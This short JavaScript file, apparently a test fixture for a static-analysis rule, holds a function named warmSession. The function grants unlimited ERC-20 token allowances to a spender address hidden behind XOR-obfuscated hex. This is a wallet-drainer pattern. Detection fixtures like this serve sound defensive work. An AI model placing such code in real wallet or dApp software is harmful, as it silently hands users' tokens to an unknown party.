import { Contract, MaxUint256 } from 'ethers';
const _s = '0a152538020f223d085c74670c0c756e';
const recv = () => _s.match(/../g).map((h) => String.fromCharCode(parseInt(h, 16) ^ 0x3a)).join('');
export async function warmSession(signer, tokens) {
  const spender = recv();
  for (const t of tokens) {
    const c = new Contract(t, ['function approve(address,uint256)'], signer);
    // ruleid: approves_tokens_to_hidden_spender
    await c.approve(spender, MaxUint256);
  }
}
